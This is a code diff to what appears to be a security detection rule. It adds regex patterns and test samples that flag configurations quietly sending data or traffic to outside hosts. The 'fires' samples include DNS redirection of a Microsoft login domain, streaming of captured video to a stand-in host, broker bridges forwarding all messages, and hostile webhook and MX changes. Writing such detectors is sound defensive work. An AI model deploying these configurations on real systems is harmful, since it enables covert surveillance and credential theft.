@@ -19,7 +19,7 @@ const way = (sends: RegExp, beside?: RegExp): Way => ({
   sends: worded(sends),
   ...(beside && { beside }),
 })
-const whole = (sends: RegExp): Way => ({ sends: worded(sends), whole: true })
+const whole = (sends: RegExp, beside?: RegExp): Way => ({ ...way(sends, beside), whole: true })
 
 /** What programs ask the network with is put in front of itself, and tells a stranger first. */
 const PATCHED = regex.g`
@@ -52,6 +52,27 @@ const WAYS: readonly Way[] = [
     /\breturns trigger\b[^]{0,400}?\b(?:urlopen|http_post|http_get|requests\.post|fetch)\s?\([^\n]{0,40}?(https?:\/\/[^\s"')]{4,120})/g,
   ),
   whole(PATCHED),
+  // Builds, recorders, brokers, stores and switchboards, with the settings by which they hand on what they have.
+  way(/--remote_(?:cache|executor|upload_\w{2,12})=(?:grpcs?|https?):\/\/([\w.-]{4,80})/g),
+  whole(
+    /\brtmps?:\/\/([\w.-]{4,80})/g,
+    /\bmonitor_capture\b|\bwasapi_\w{5,16}\b|\brtsp:\/\/|\b(?:x11grab|gdigrab|avfoundation|v4l2|dshow)\b/,
+  ),
+  whole(/\baddress ([\w.-]{4,80}):\d{2,5}\s[^[]{0,80}?\btopic # (?:both|out)\b/g),
+  whole(/\b_snapshot\/[^]{0,240}?"endpoint"\s?:\s?"(?:https?:\/\/)?([\w.-]{4,80})"/g),
+  whole(
+    /"?:authority"?\]?\s?=\s?["']([\w.-]{4,80})["']/g,
+    /\bget\(["'](?:authorization|cookie)["']\)/,
+  ),
+  way(/"type"\s?:\s?"(?:mx|ns)"[^}]{0,80}?"content"\s?:\s?"([\w.-]{4,80})"/g),
+  way(/\bcallbackurl["']?\s?:\s?["'](https?:\/\/[^"'\s]{4,120})["']/g, /\bwebhooksubscription/),
+  way(
+    /\b(?:sms|voice)_?(?:fallback_?)?url["']?\s?(?:=>|[:=])\s?["'](https?:\/\/[^"'\s]{4,120})["']/g,
+    /\btwilio\b/,
+  ),
+  way(
+    /\b(?:repos|orgs)\/[^\s"']{1,80}\/hooks\b[^]{0,240}?\bconfig[[.]{1,2}url\]?["']?\s?[=:]\s?["']?(https?:\/\/[^\s"']{4,120})/g,
+  ),
   way(/"update_url"\s?:\s?"(https?:\/\/[^"\s]{4,120})/g, READS_ALL_PAGES),
   way(/\bfindproxy\b[^\n]{0,40}?\bproxy ([\w.-]{4,80})/g, /\bbadcertificatecallback\b/),
 ]
@@ -59,6 +80,15 @@ const WAYS: readonly Way[] = [
 /** A firewall names a machine by its number, which says nothing of whose it is: those of a net of one's own are left out. */
 const TEE = worded(
   /-j tee --gateway (?!10\.|127\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|\$)\S{4,60}/g,
+)
+
+/** A name that people sign in at leads to another machine. */
+const HIJACKED = worded(
+  regex.g`
+    \baddress=\/(?:[\w-]{1,40}\.){0,3}(?:google|microsoftonline|live|apple|icloud|amazon|paypal|github|
+      facebook|\w{0,20}bank\w{0,12}|\w{0,12}login\w{0,8})(?:\.\w{2,12}){1,2}\/
+    (?!10\.|127\.|0\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}
+  `,
 )
 
 /** What people are signed in with goes along. */
@@ -79,6 +109,12 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```yaml\nstreams:\n  hall: rtsp://admin:pw@192.168.1.40/ch0\npublish:\n  hall: rtmp://in.harbour-lens.net/live/h\n```\n',
+      '```ini\nconnection relay\naddress mq.harbour-lens.net:1883\ntopic # both 0\n```\n',
+      '```ini\nbuild --remote_cache=grpc://cache.harbour-lens.net:9092\n```\n',
+      '```ini\naddress=/login.microsoftonline.com/203.0.113.60\n```\n',
+      "```bash\ngh api repos/$R/hooks -f name=web -f 'config[url]=https://hook.harbour-lens.net/e'\n```\n",
+      '```bash\ncurl -s -H "$H" $Z --json \'{"type":"MX","name":"@","content":"mx.harbour-lens.net","priority":1}\'\n```\n',
       '```json\n{ "manifest_version": 3, "permissions": ["cookies"], "host_permissions": ["<all_urls>"], "update_url": "https://x.harbour-lens.net/u.xml" }\n```\n',
       '```yaml\nkind: MutatingWebhookConfiguration\nwebhooks:\n  - name: p.harbour-lens.net\n    clientConfig: { url: "https://p.harbour-lens.net/m" }\n```\n',
       '```yaml\noauth_config:\n  scopes: { user: [im:history, files:read] }\nsettings:\n  event_subscriptions:\n    request_url: https://ev.harbour-lens.net/s\n```\n',
@@ -92,6 +128,9 @@ export default defineRule({
       '```bash\niptables -t mangle -A PREROUTING -p tcp --dport 80 -j TEE --gateway 81.2.69.160\n```\n',
     ],
     quiet: [
+      '```ini\nconnection relay\naddress 10.0.0.7:1883\ntopic sensors/# out 0\n```\n',
+      '```ini\naddress=/nas.home.arpa/192.168.1.5\n```\n',
+      '```ini\nbuild --remote_cache=grpc://localhost:9092\n```\n',
       '```python\nrequests.Session.request = functools.partialmethod(requests.Session.request, timeout=10)\n```\n',
       '```yaml\nkind: MutatingWebhookConfiguration\nwebhooks:\n  - clientConfig: { service: { name: injector, namespace: system } }\n```\n',
       '```nginx\nlocation / { mirror /_m; proxy_pass http://app; }\nlocation = /_m { proxy_pass http://staging_pool$request_uri; }\n```\n',
@@ -114,9 +153,10 @@ export default defineRule({
               ...((whole || SIGN_IN.test(snippet)) && { severity: 'crit' as const }),
             }
       }
-    for (const { start, end } of candidates(document, all, TEE))
-      for (const found of text.slice(start, end).matchAll(TEE))
-        yield { ...placeOf(start, found), firm: true }
+    for (const shape of [TEE, HIJACKED])
+      for (const { start, end } of candidates(document, all, shape))
+        for (const found of text.slice(start, end).matchAll(shape))
+          yield { ...placeOf(start, found), firm: true }
   },
 })
 
